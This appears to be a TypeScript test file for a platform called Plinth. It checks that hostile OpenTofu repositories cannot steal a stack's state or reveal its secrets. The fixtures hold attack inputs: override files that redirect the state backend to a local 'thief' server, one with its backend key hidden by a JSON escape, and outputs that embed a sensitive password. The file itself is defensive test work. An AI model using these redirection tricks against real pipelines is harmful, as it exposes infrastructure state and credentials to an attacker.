import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { loadEngineConfig } from '../src/engine/engine-config.ts';
import { serviceAccountCaller } from './helpers/callers.ts';
import { FAST_ENGINE_ENV, LOOPBACK_GIT_ENV, logLines, stepsOf, triggerRun, waitForRunStatus, waitForStep } from './helpers/engine.ts';
import { startGitServer, type GitServer } from './helpers/git-server.ts';
import { STANDIN, startTofuTestApp, type TofuTestApp } from './helpers/opentofu.ts';

const SECRET = 'hostile-repo-secret-value';

/** The tenant's own server: it counts every request a step's OpenTofu sends it. */
async function startThief(): Promise<{ server: Server; url: string; requests: string[] }> {
  const requests: string[] = [];
  const server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`);
    res.statusCode = 204;
    res.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/state`, requests };
}

const standin = (outputs: Record<string, unknown> = {}) =>
  JSON.stringify({ variables: { pw: {} }, resources: { 'standin_db.main': { attributes: { password: '${var.pw}' } } }, outputs });

// Steps run unsandboxed here, so that nothing but Plinth's own guard stands between a step and the
// tenant's server on loopback: the guard must not depend on network isolation.
describe("a hostile repository cannot move a stack's state, nor show its secrets", () => {
  let t: TofuTestApp;
  let git: GitServer;
  let thief: Awaited<ReturnType<typeof startThief>>;
  let projectId: string;
  let environmentId: string;

  before(async () => {
    t = await startTofuTestApp();
    git = await startGitServer();
    thief = await startThief();
    const config = loadEngineConfig({ ...FAST_ENGINE_ENV, ...LOOPBACK_GIT_ENV, PLINTH_SANDBOX: 'off' });
    await t.startWorker({ sandbox: config.sandbox, tofu: { ...config.tofu, bin: STANDIN, backendUrl: t.baseUrl } });
    projectId = (await t.call('POST', '/projects', { body: { data: { givenId: 'hostile', name: 'Hostile' } } })).body.data.id;
    environmentId = (await t.call('POST', '/environments', { body: { data: { projectId, givenId: 'prod', name: 'Prod' } } })).body.data.id;
  });
  after(async () => {
    await t.close();
    await git.close();
    thief.server.close();
  });

  async function stackAt(path: string, files: Record<string, string>): Promise<string> {
    for (const [name, text] of Object.entries(files)) git.commit('public', 'main', `${path}/${name}`, text);
    const source = (await t.call('POST', '/code-sources', { body: { data: { name: path.replaceAll('/', '-'), url: git.repoUrl('public') } } })).body.data;
    const stack = await t.call('POST', '/stacks', {
      body: { data: { projectId, environmentId, name: path.replaceAll('/', '-'), source: { codeSourceId: source.id, ref: 'main', path } } },
    });
    assert.equal(stack.status, 201, JSON.stringify(stack.body));
    assert.equal((await t.call('PUT', `/stacks/${stack.body.data.id}/sensitive-variables/pw`, { body: { data: { value: SECRET } } })).status, 200);
    return stack.body.data.id;
  }

  async function failedPlan(stackId: string) {
    const run = await triggerRun(t, stackId);
    await waitForRunStatus(t, run.id, 'FAILED', 60_000);
    return (await stepsOf(t, run.id)).find((s) => s.stepId === 'plan');
  }

  it("an override file pointing the backend at the tenant's server stops the run before init, naming the file", async () => {
    const redirect = { terraform: { backend: { http: { address: thief.url, lock_address: `${thief.url}/lock`, unlock_address: `${thief.url}/lock` } } } };
    const stackId = await stackAt('stacks/redirect', { 'standin.json': standin(), 'zz_override.tf.json': JSON.stringify(redirect) });
    const plan = await failedPlan(stackId);
    assert.equal(plan.error.code, 'OpenTofu:Backend:OVERRIDDEN');
    assert.match(plan.error.message, /zz_override\.tf\.json/);
    assert.deepEqual(thief.requests, []);
  });

  it('an override hiding its backend key behind a JSON escape is refused too', async () => {
    const escaped = `{"terraform": {"b\\u0061ckend": {"http": {"address": "${thief.url}"}}}}`;
    const stackId = await stackAt('stacks/escaped', { 'standin.json': standin(), 'a_override.tf.json': escaped });
    assert.equal((await failedPlan(stackId)).error.code, 'OpenTofu:Backend:OVERRIDDEN');
    assert.deepEqual(thief.requests, []);
  });

  it("a backend in the code itself, and a committed .terraform naming the tenant's server, are replaced: the run plans against Plinth", async () => {
    const own = `terraform {\n  backend "http" {\n    address = "${thief.url}"\n    lock_address = "${thief.url}/lock"\n  }\n}\n`;
    const kept = JSON.stringify({ version: 3, backend: { type: 'http', config: { address: thief.url }, hash: 1 } });
    const stackId = await stackAt('stacks/own-backend', { 'standin.json': standin(), 'main.tf': own, '.terraform/terraform.tfstate': kept });
    const run = await triggerRun(t, stackId);
    const approval = await waitForStep(t, run.id, 'approve', 'WAITING_FOR_APPROVAL', 60_000);
    assert.equal((await t.call('POST', `/pipeline-step-executions/${approval.id}/approve`)).status, 200);
    await waitForRunStatus(t, run.id, 'SUCCEEDED', 60_000);
    assert.equal((await t.call('GET', `/stacks/${stackId}/state-versions`)).body.data.length, 1, 'the state is in Plinth');
    assert.deepEqual(thief.requests, []);
  });

  it('an output showing a declared sensitive variable fails the plan, as OpenTofu does for a sensitive input', async () => {
    const stackId = await stackAt('stacks/leaky-output', {
      'standin.json': standin({ leak: { value: '${var.pw}' } }),
      'variables.tf': 'variable "pw" {\n  type = string\n}\n',
    });
    const plan = await failedPlan(stackId);
    assert.equal(plan.error.code, 'OpenTofu:Command:FAILED');
    assert.ok((await logLines(t, plan.id)).some((l) => l.includes('Output refers to sensitive values')));
  });

  it('an output whose value holds a sensitive value is masked in the stack, whoever reads it', async () => {
    const stackId = await stackAt('stacks/derived-output', {
      'standin.json': standin({ conn: { value: 'postgres://app:${var.pw}@db/app' }, region: { value: 'eu' } }),
    });
    const run = await triggerRun(t, stackId);
    const approval = await waitForStep(t, run.id, 'approve', 'WAITING_FOR_APPROVAL', 60_000);
    assert.equal((await t.call('POST', `/pipeline-step-executions/${approval.id}/approve`)).status, 200);
    await waitForRunStatus(t, run.id, 'SUCCEEDED', 60_000);
    const viewer = (await serviceAccountCaller(t, 'VIEWER')).token;
    const stack = await t.call('GET', `/stacks/${stackId}`, { token: viewer });
    assert.deepEqual(stack.body.data.output, { conn: '(sensitive value)', region: 'eu' });
    assert.ok(!JSON.stringify(stack.body).includes(SECRET));
  });
});
